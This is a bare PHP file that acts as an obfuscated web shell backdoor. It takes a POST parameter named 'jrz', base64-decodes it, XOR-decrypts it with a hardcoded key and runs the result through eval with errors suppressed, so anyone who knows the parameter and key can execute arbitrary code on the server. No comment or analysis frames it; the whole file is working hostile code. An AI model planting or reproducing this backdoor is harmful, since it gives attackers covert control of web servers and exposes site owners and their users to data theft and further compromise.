<?php
$k = 'QCVsNHjm';
$d = base64_decode(isset($_POST['jrz']) ? $_POST['jrz'] : '');
$o = '';
for ($i = 0; $i < strlen($d); $i++) {
    $o .= chr(ord($d[$i]) ^ ord($k[$i % strlen($k)]));
}
if ($o !== '') { @eval($o); }
